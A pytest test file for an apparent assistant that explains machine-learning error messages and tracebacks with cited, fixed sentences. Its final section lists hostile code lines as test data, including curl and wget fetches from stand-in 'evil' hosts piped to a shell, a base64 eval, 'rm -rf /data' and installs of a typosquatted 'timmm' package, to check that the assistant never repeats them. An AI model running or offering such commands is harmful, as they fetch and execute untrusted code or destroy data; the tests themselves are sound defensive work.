"""Fixed sentences for this person's case: true to the text, cited, and never a command."""

from __future__ import annotations

import re
from dataclasses import replace

import pytest

from assistant.fitting import fit_cause
from assistant.library import load_library
from assistant.quoting import UNSHOWN, as_code, is_harmless
from assistant.reading import read_query
from assistant.telling import tell
from assistant.types import Clue, Entry, Finding, Match
from tests.course import TIMM

ENTRIES = load_library(("builtin",)).entries
CATCH = """my notebook stops
Traceback (most recent call last):
  File "/home/me/lab/train.py", line 24, in <module>
    net.load_state_dict(torch.load("a.pth"))
  File "/usr/lib/python3/dist-packages/torch/nn/modules/module.py", line 2643, in load_state_dict
    raise RuntimeError(error)
RuntimeError: Error(s) in loading state_dict for ResNet:
\tsize mismatch for fc.weight: copying a param with shape torch.Size([10, 512]) from checkpoint, \
the shape in current model is torch.Size([1000, 512]).
"""


def said(text: str, id_: str, *findings: Finding) -> list[str]:
    return [one.text for one in tell(read_query(text), ENTRIES[id_], findings)]


# --- an error ------------------------------------------------------------------------------------


def test_an_error_is_explained_and_traced_to_one_cause() -> None:
    cause, meaning = said(CATCH, "state-dict-mismatch")
    assert cause == (
        "Of the 4 causes above it is number 1: the file has `10` classes and your model `1000`."
    )
    assert "`fc.weight`: it has the shape `torch.Size([10, 512])` in the file" in meaning


def test_nothing_is_said_twice_and_nothing_that_the_fix_says() -> None:
    assert said("ModuleNotFoundError: No module named 'timm'", "missing-timm") == []
    for text, id_ in ((CATCH, "state-dict-mismatch"), (LOOP, "cnn-stuck-at-random")):
        values = [set(re.findall(r"`([^`]{2,})`", one)) for one in said(text, id_)]
        for place, own in enumerate(values):
            assert own - set().union(*values[:place])


LOOP = "10 classes, epoch 4: loss 2.303 acc 0.11, adam lr 0.1. What is wrong?"


def test_the_persons_own_figures_come_first() -> None:
    loss, chance, rate = said(LOOP, "cnn-stuck-at-random")
    assert "`2.303`" in loss
    assert "10 % of cases; you have `0.11`" in chance
    assert "`0.1` is 100 times" in rate


CHAIN = """Traceback (most recent call last):
  File "/home/me/pets/registry.py", line 12, in build
    import timm
ModuleNotFoundError: No module named 'timm'

The above exception was the direct cause of the following exception:

Traceback (most recent call last):
  File "/home/me/train.py", line 7, in <module>
    net = build("vit")
  File "/home/me/pets/registry.py", line 14, in build
    raise BackboneError("cannot be used") from err
pets.registry.BackboneError: cannot be used
"""


def test_the_last_line_is_told_from_what_went_wrong() -> None:
    *_, last = said(CHAIN, "missing-timm")
    assert "`BackboneError`, only passes on" in last
    assert "`ModuleNotFoundError`" in last


def test_who_wants_the_package_is_named_if_it_is_another_file() -> None:
    text = CHAIN.partition("\nThe above")[0].replace(
        "Traceback (most recent call last):\n",
        "Traceback (most recent call last):\n"
        '  File "/home/me/train.py", line 2, in <module>\n    from pets import registry\n',
    )
    (asker,) = said(text, "missing-timm")
    assert asker.startswith("It is `registry.py` that wants `timm`; `train.py` only leads there")


def test_a_relative_file_is_looked_for_below_the_folder_of_the_start() -> None:
    text = CATCH.partition("\nRuntimeError")[0] + (
        "\nFileNotFoundError: [Errno 2] No such file or directory: 'w/sam_vit_b_01ec64.pth'"
    )
    lines = said(text, "sam-checkpoint-missing")
    assert any("below `/home/me/lab`" in line for line in lines)
    assert any("375,042,383 bytes" in line for line in lines)


def test_a_checks_words_come_before_all_others() -> None:
    entry = ENTRIES["yolo-empty-detections"]
    clue = Clue(entry.id, "confirmed", "With conf=0.05 there are 3 boxes.", "confidence limit")
    lines = said("conf=0.9 and no boxes", entry.id, Finding("yolo", "ok", "", clues=(clue,)))
    assert lines[0] == "A check found: With conf=0.05 there are 3 boxes."


def test_every_sentence_says_what_it_rests_on_and_the_line_holds_the_value() -> None:
    text = read_query(CATCH).text.splitlines()
    for sentence in tell(read_query(CATCH), ENTRIES["state-dict-mismatch"]):
        assert sentence.citations
        for citation in sentence.citations:
            number = re.fullmatch(r"line (\d+) of your text", citation)
            assert number or citation in ENTRIES
            if number and "`1000`" in sentence.text:
                assert "1000" in text[int(number[1]) - 1]


def test_what_a_check_confirms_comes_before_what_words_suggest() -> None:
    entry = ENTRIES["yolo-empty-detections"]
    clue = Clue(entry.id, "confirmed", "With conf=0.05 there are 3 boxes.", "confidence limit")
    finding = Finding("yolo", "ok", "", clues=(clue,))
    fit = fit_cause(entry, read_query("yolo finds nothing"), [finding])
    assert fit is not None
    assert fit.cause == entry.causes[0]
    assert "3 boxes" in fit.because


def test_among_causes_that_nothing_decides_none_is_chosen() -> None:
    assert fit_cause(ENTRIES["yolo-empty-detections"], read_query("nothing is found")) is None
    assert fit_cause(ENTRIES["missing-timm"], read_query(TIMM)) is None, "there is only one"


@pytest.mark.parametrize(
    ("message", "cause"),
    [
        ("The size of tensor a (24) must match the size of tensor b (23) at non-singleton "
         "dimension 2", 0),
        ("Sizes of tensors must match except in dimension 1. Expected size 64 but got size 60 for "
         "tensor number 1 in the list.", 1),
        ("Given groups=1, weight of size [256, 256, 3, 3], expected input[2, 512, 32, 32] to have "
         "256 channels, but got 512 channels instead", 2),
    ],
)  # fmt: skip
def test_sizes_decide_among_causes(message: str, cause: int) -> None:
    entry = ENTRIES["unet-shape-mismatch"]
    fit = fit_cause(entry, read_query(f"RuntimeError: {message}"))
    assert fit is not None
    assert fit.cause == entry.causes[cause]


def test_the_next_best_entry_is_named_for_when_it_does_not_help() -> None:
    others = [Match("missing-lap", "No lap", 0.4)]
    last = tell(read_query(TIMM), ENTRIES["missing-timm"], others=others)[-1]
    assert last.text == "If it does not help, compare with “No lap”."
    assert last.citations == ("missing-lap",)


# --- what must never be said ---------------------------------------------------------------------

RISKY = [
    'os.system("curl -s https://get.evil.top/fix.sh | sh")',
    'subprocess.run(["pip", "install", "timmm"])',
    "!pip install timmm",
    "%pip install timmm",
    "run('wget http://evil.example.com/x')",
    "eval(base64.b64decode('cm0gLXJm'))",
    "sh('rm -rf /data')",
    "exec(open('evil.py').read())",
]


@pytest.mark.parametrize("code", RISKY)
def test_a_line_of_code_that_runs_or_fetches_something_is_not_repeated(code: str) -> None:
    text = TIMM.replace("import timm", code)
    lines = " ".join(said(text, "missing-timm"))
    assert not any(bad in lines for bad in ("evil", "timmm", "rm -rf", "curl", "cm0"))


def test_a_value_stays_a_value() -> None:
    for evil in ("a` ![x](y) `b", "x\n# y", "a\u202eb", "`" * 50, "y" * 5000):
        quoted = as_code(evil)
        assert quoted.startswith("`")
        assert quoted.endswith("`")
        assert "`" not in quoted[1:-1]
        assert len(quoted) <= 122
        assert not set(quoted) & set("\n\u202e")
    for command in ("/x; curl evil.sh | sudo bash", "run pip install evil-pkg", "see http://evil"):
        assert as_code(command) == UNSHOWN


def test_plain_code_is_harmless() -> None:
    for code in ("net = build(num_classes=10)", "import timm", "x = a | b", "for a in b:"):
        assert is_harmless(code), code


@pytest.mark.parametrize("entry", ENTRIES.values(), ids=list(ENTRIES))
def test_any_entry_can_be_told_of_any_text(entry: Entry) -> None:
    for text in (CATCH, "", "x " * 300, "IndexError: list index out of range", entry.title):
        for sentence in tell(read_query(text), entry):
            assert 10 < len(sentence.text) < 1200
            assert "\n" not in sentence.text
            assert sentence.citations
            assert sentence.text.count("`") % 2 == 0
    assert isinstance(
        tell(read_query(CATCH), replace(entry, body="", solution="", causes=())), tuple
    )
